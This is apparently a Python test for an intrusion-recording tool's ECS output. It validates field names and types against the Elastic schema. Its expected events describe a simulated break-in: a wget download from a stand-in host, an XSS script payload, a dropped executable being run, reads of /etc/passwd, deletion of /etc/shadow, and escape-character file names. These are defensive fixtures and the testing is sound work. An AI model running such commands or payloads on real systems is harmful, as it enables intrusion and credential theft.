#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""ecs.py QEBEK MAKE_INTRUSION: the ecs output uses the schema's own names, with values of their types."""
import ipaddress
import json
import re
import subprocess
import sys
import tempfile

QEBEK, MAKE = sys.argv[1:]

# Names and types as the published list of fields has them (generated/csv/fields.csv of elastic/ecs, version 9.3.0), and
# the types of event that go with each category (schemas/event.yml). Facts of the schema, not of ours: a name that is not
# here must be looked up there before it is added.
FIELDS = {
    '@timestamp': 'date', 'ecs.version': 'keyword', 'event.kind': 'keyword', 'event.category': 'keywords',
    'event.type': 'keywords', 'event.action': 'keyword', 'event.outcome': 'keyword', 'event.module': 'keyword',
    'event.dataset': 'keyword', 'event.sequence': 'long', 'event.duration': 'long', 'process.pid': 'long',
    'process.parent.pid': 'long', 'process.parent.entity_id': 'keyword', 'process.entity_id': 'keyword',
    'process.name': 'keyword', 'process.executable': 'keyword', 'process.command_line': 'keyword',
    'process.thread.id': 'long', 'process.exit_code': 'long', 'user.id': 'keyword', 'user.effective.id': 'keyword',
    'group.id': 'keyword', 'source.ip': 'ip', 'source.port': 'long', 'destination.ip': 'ip', 'destination.port': 'long',
    'network.type': 'keyword', 'network.direction': 'keyword', 'file.path': 'keyword', 'file.target_path': 'keyword',
    'error.code': 'keyword', 'error.message': 'keyword', 'message': 'keyword', 'related.ip': 'ips',
    'host.os.type': 'keyword',
}
TYPES = {
    'session': {'start', 'end', 'info'},
    'process': {'access', 'change', 'end', 'info', 'start'},
    'file': {'access', 'change', 'creation', 'deletion', 'info'},
    'network': {'access', 'allowed', 'connection', 'denied', 'end', 'info', 'protocol', 'start'},
}
OUTCOMES = {'success', 'failure', 'unknown'}


def expect(good, text):
    if not good:
        raise AssertionError(text)


def is_address(value):
    return isinstance(value, str) and ipaddress.ip_address(value) is not None


CHECKS = {
    'date': lambda v: re.fullmatch(r'\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{9}Z', v),
    'keyword': lambda v: isinstance(v, str),
    'keywords': lambda v: isinstance(v, list) and v and all(isinstance(x, str) for x in v),
    'long': lambda v: isinstance(v, int) and not isinstance(v, bool),
    'ip': is_address,
    'ips': lambda v: isinstance(v, list) and all(map(is_address, v)),
}


def unique(pairs):
    expect(len({key for key, _ in pairs}) == len(pairs), f'a key twice: {pairs}')
    return dict(pairs)


def check(event, seen):
    for key, value in event.items():
        if not key.startswith('qebek.'):
            expect(key in FIELDS, f'{key} is no field of the schema')
            expect(CHECKS[FIELDS[key]](value), f'{key}: {value!r} is no {FIELDS[key]}')
            seen.add(key)
    expect(event['ecs.version'] == '9.3.0' and event['event.kind'] in ('event', 'pipeline_error'), f'{event}')
    for category in event.get('event.category', ()):
        expect(set(event['event.type']) <= TYPES[category], f'{event}')
    expect(event.get('event.outcome', 'unknown') in OUTCOMES, f'{event}')


def main():
    with tempfile.TemporaryDirectory() as path:
        subprocess.run([MAKE, f'{path}/t', '100'], check=True)
        done = subprocess.run([QEBEK, 'read', '--output', 'ecs', f'{path}/t'], stdout=subprocess.PIPE, check=True)
    events = [json.loads(line, object_pairs_hook=unique) for line in done.stdout.decode().splitlines()]
    seen = set()
    for event in events:
        check(event, seen)
    expect(set(FIELDS) - seen <= {'file.target_path', 'error.message'} - seen, f'never used: {set(FIELDS) - seen}')
    told = [(e['event.action'], e['event.outcome'], e.get('process.command_line') or e.get('file.path') or
             e.get('destination.ip') or e.get('source.ip')) for e in events if 'event.duration' in e and e['event.category'] != ['session']]
    script = "</script><script>document.title='owned'</script><img src=x onerror=document.title='owned'>"
    wget = "wget 'http://198.51.100.7/a b' '" + script.replace("'", "'\\''") + "'"
    want = [('accept', 'success', '203.0.113.9'), ('exec', 'success', '-sh'), ('exec', 'failure', wget),
            ('exec', 'success', wget), ('connect', 'failure', '198.51.100.7'), ('connect', 'success', '198.51.100.7'),
            ('create', 'success', '/root/evil\x1b[31m\n\ufffd\\' + script), ('create', 'success', '/root/dropped'),
            ('read', 'success', '/etc/passwd'),
            ('chmod', 'success', '/root/dropped'), ('exec', 'success', "./dropped 'it'\\''s' '\u202e' ''"),
            ('delete', 'success', '/root/dropped'), ('delete', 'failure', '/etc/shadow'), ('exec', 'failure', 'nonsense'), ('exec', 'failure', 'nonsense')]
    expect(told == want, f'{told}')
    ends = [e for e in events if e['event.action'] == 'exit']
    expect([(e['process.pid'], e['process.exit_code']) for e in ends] == [(102, 127), (101, 3)], f'{ends}')
    sessions = [e for e in events if e.get('event.category') == ['session']]
    expect([e['event.action'] for e in sessions] == ['session_start', 'session_end'], f'{sessions}')
    shell = [e for e in events if e.get('process.command_line') == '-sh'][0]
    expect((shell['qebek.session'], shell['qebek.remote']) == (1, '203.0.113.9:50022'), f'{shell}')
    expect(events[-1]['event.module'] == 'qebek', 'module')
    print(f'{len(events)} events, {len(seen)} fields')


if __name__ == '__main__':
    main()
